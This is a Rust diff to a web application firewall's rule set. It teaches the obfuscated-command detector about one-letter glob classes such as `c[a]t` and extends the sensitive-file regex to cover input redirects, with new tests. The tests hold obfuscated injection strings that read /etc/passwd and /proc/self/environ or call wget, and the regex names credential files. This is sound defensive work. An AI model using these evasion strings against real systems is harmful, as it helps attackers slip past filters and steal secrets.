@@ -37,7 +37,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             ATTACK,
             DEC,
-            Detector(obfuscated_command, b"'\"\\^"),
+            Detector(obfuscated_command, b"'\"\\^["),
             "Command hidden by shell quoting",
         ),
         rule(
@@ -332,7 +332,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"\b(?:cat|tac|nl|head|tail|more|less|type|strings|xxd|od|base64|grep|awk|sed|vi|vim|nano|cp|mv|curl|wget|sort|uniq|rev|paste|diff|file)\s+[^\s;|&]*(?:/etc/(?:passwd|shadow|hosts|group|issue)|/proc/self|win\.ini|boot\.ini|\.bash_history|\.ssh/)"##,
+                r##"\b(?:cat|tac|nl|head|tail|more|less|type|strings|xxd|od|base64|grep|awk|sed|vi|vim|nano|cp|mv|curl|wget|sort|uniq|rev|paste|diff|file)(?:\s+|\s*<\s*)[^\s;|&]*(?:/etc/(?:passwd|shadow|hosts|group|issue)|/proc/self|win\.ini|boot\.ini|\.bash_history|\.ssh/)"##,
             ),
             "Command reading a sensitive file",
         ),
@@ -363,15 +363,16 @@ pub(super) fn rules() -> Vec<RuleDef> {
 
 const FILE_NAMES: u16 = crate::waf::fields::FieldKind::FileName as u16;
 
-/// `w'h'o'am'i`, `wh\oami`, `who^ami`, `c'a't`: quoting inside a command word is
-/// shell obfuscation, never prose, so a word that becomes a command once the quoting
-/// is removed is flagged even without a separator. `I'd` (one mark, two letters) is prose.
+/// `w'h'o'am'i`, `wh\oami`, `who^ami`, `c'a't`, `c[a]t`: quoting or a one-letter
+/// glob class inside a command word is shell obfuscation, never prose, so a word
+/// that becomes a command once they are removed is flagged even without a
+/// separator. `I'd` (one quote, two letters) is prose; `I\'d` is the word `I'd`.
 pub(super) fn obfuscated_command(s: &str) -> bool {
     let Some(cmd) = COMMAND.as_ref() else {
         return false;
     };
     let b = s.as_bytes();
-    if !b.iter().any(|&c| is_mark(c)) {
+    if !b.iter().any(|&c| is_trigger(c)) {
         return false;
     }
     if !s.is_ascii() {
@@ -380,7 +381,7 @@ pub(super) fn obfuscated_command(s: &str) -> bool {
     // ASCII (nearly every value): only a word with a mark can hide a command, so
     // each mark is found and its word read, rather than splitting the whole value.
     let mut from = 0;
-    while let Some(at) = b[from..].iter().position(|&c| is_mark(c)) {
+    while let Some(at) = b[from..].iter().position(|&c| is_trigger(c)) {
         let at = from + at;
         let start = b[..at]
             .iter()
@@ -401,7 +402,7 @@ pub(super) fn obfuscated_command(s: &str) -> bool {
 /// A whole word that is a command (`obfuscated_command`, once the quoting is out).
 static COMMAND: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(concat!(
-        r"^(?:[\w.-]*/)?(?:",
+        r"^(?:[\w./-]*/)?(?:",
         strong_cmds!(),
         "|",
         weak_cmds!(),
@@ -420,40 +421,112 @@ fn is_mark(c: u8) -> bool {
     matches!(c, b'\'' | b'"' | b'\\' | b'^')
 }
 
+/// A byte that may start obfuscation in a word: a quoting mark or a glob class.
+fn is_trigger(c: u8) -> bool {
+    is_mark(c) || c == b'['
+}
+
 /// Where a shell word ends.
 fn is_separator(c: char) -> bool {
     c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '(' | ')' | '$' | '{' | '}' | ',')
 }
 
-/// One word of `obfuscated_command`: quoting inside it, and a command once the
-/// quoting is removed.
+/// One word of `obfuscated_command`: quoting or a glob class inside it, and a
+/// command once they are removed.
 fn hides_command(cmd: &regex::Regex, w: &str) -> bool {
     // Most words have no mark at all: done before trimming.
-    if w.len() < 3 || w.len() > 64 || !w.bytes().any(is_mark) {
+    if w.len() < 3 || w.len() > 64 || !w.bytes().any(is_trigger) {
         return false;
     }
     let inner = w.trim_matches(|c| matches!(c, '\'' | '"'));
-    let inner_marks = inner.bytes().filter(|&c| is_mark(c)).count();
-    if inner_marks == 0 {
+    if !inner.bytes().any(is_trigger) {
         return false;
     }
-    let matches = |cleaned: &str| (cleaned.len() >= 3 || inner_marks >= 2) && cmd.is_match(cleaned);
-    if inner.is_ascii() {
-        // At most 64 bytes: cleaned on the stack, not in a `String`.
-        let mut buf = [0u8; 64];
-        let mut len = 0;
-        for (d, c) in buf.iter_mut().zip(inner.bytes().filter(|&c| !is_mark(c))) {
-            *d = c.to_ascii_lowercase();
-            len += 1;
+    let mut cleaned = Cleaned::default();
+    let mut chars = inner.chars().peekable();
+    let mut first = true;
+    while let Some(c) = chars.next() {
+        match c {
+            // `\x` and cmd.exe's `^x` are the letter x itself: the mark goes, what
+            // it escapes stays, even a quote (`I\'d` is `I'd`, not `Id`).
+            '\\' | '^' => {
+                cleaned.marks += 1;
+                cleaned.escape_inside |= !first;
+                if let Some(next) = chars.next() {
+                    cleaned.push(next);
+                }
+            }
+            '\'' | '"' => cleaned.marks += 1,
+            // `[a]`: a glob class of one letter matches that letter.
+            '[' => {
+                let mut ahead = chars.clone();
+                match (ahead.next(), ahead.next()) {
+                    (Some(l), Some(']')) if l.is_ascii_alphanumeric() => {
+                        cleaned.marks += 1;
+                        cleaned.push(l);
+                        chars = ahead;
+                    }
+                    _ => cleaned.push(c),
+                }
+            }
+            _ => cleaned.push(c),
         }
-        return std::str::from_utf8(&buf[..len]).is_ok_and(matches);
+        first = false;
     }
-    let cleaned: String = inner
-        .chars()
-        .filter(|&c| !(c.is_ascii() && is_mark(c as u8)))
-        .flat_map(char::to_lowercase)
-        .collect();
-    matches(&cleaned)
+    let Some(text) = cleaned.text() else {
+        return false;
+    };
+    // Two letters left by one mark are a command only when an escape sits inside
+    // the word (`l\s`, `i^d`); one quote there is an apostrophe (`I'd`), and a
+    // leading backslash a TeX macro (`\rm`).
+    let enough = text.len() >= 3 || cleaned.marks >= 2 || cleaned.escape_inside;
+    enough && cmd.is_match(text)
+}
+
+/// A word with its shell quoting removed, lowercased, on the stack (words are at
+/// most 64 bytes; longer text is never a command).
+struct Cleaned {
+    buf: [u8; 64],
+    len: usize,
+    marks: usize,
+    escape_inside: bool,
+    overflow: bool,
+}
+
+impl Default for Cleaned {
+    fn default() -> Self {
+        Cleaned {
+            buf: [0; 64],
+            len: 0,
+            marks: 0,
+            escape_inside: false,
+            overflow: false,
+        }
+    }
+}
+
+impl Cleaned {
+    fn push(&mut self, c: char) {
+        for l in c.to_lowercase() {
+            let mut utf8 = [0u8; 4];
+            for &b in l.encode_utf8(&mut utf8).as_bytes() {
+                match self.buf.get_mut(self.len) {
+                    Some(d) => {
+                        *d = b;
+                        self.len += 1;
+                    }
+                    None => self.overflow = true,
+                }
+            }
+        }
+    }
+
+    fn text(&self) -> Option<&str> {
+        if self.overflow {
+            return None;
+        }
+        std::str::from_utf8(&self.buf[..self.len]).ok()
+    }
 }
 
 #[cfg(test)]
@@ -480,6 +553,11 @@ mod tests {
             "; c'a't /etc/passwd",
             "x|bin/w\"ge\"t http://e.example/x",
             "caf\u{e9} && c\"a\"t x",
+            ";{l\\s,-la}",
+            "i^d",
+            ";/bin/c[a]t /etc/pa[s]swd",
+            "[w]h[o]ami",
+            "caf\u{e9} l\\s",
         ] {
             assert!(obfuscated_command(a), "missed {a}");
         }
@@ -487,6 +565,10 @@ mod tests {
             "Patrick O'Brien",
             "Don't ring the bell, it's late",
             "I'd say \"cat\" is a pet",
+            "I\\'d say so",
+            "{\\rm roman} and \\sl",
+            "x = p[s] + d[d]",
+            "- [x] ls done",
             "'cat'",
             "caf\u{e9} d'Orsay",
             "",
@@ -515,6 +597,11 @@ mod tests {
             "n''c",
             "\"",
             "sl\\eep",
+            "l\\s",
+            "I\\'d",
+            "c[a]t",
+            "p[s]",
+            "[",
         ];
         let separators = [
             " ", ";", "|", "\t", "\u{b}", "(", ")", "$", "{", "}", ",", "&", "`", "-",
@@ -536,6 +623,14 @@ mod tests {
                 }
             }
         }
+    }
+
+    #[test]
+    fn a_command_reading_a_sensitive_file_through_a_redirect_fires() {
+        assert!(fires(932160, ";cat</etc/passwd"));
+        assert!(fires(932160, ";cat</e''tc/p''asswd"));
+        assert!(fires(932160, "tail < /proc/self/environ"));
+        assert!(!fires(932160, "the cat < the dog, /etc/passwd aside"));
     }
 
     #[test]
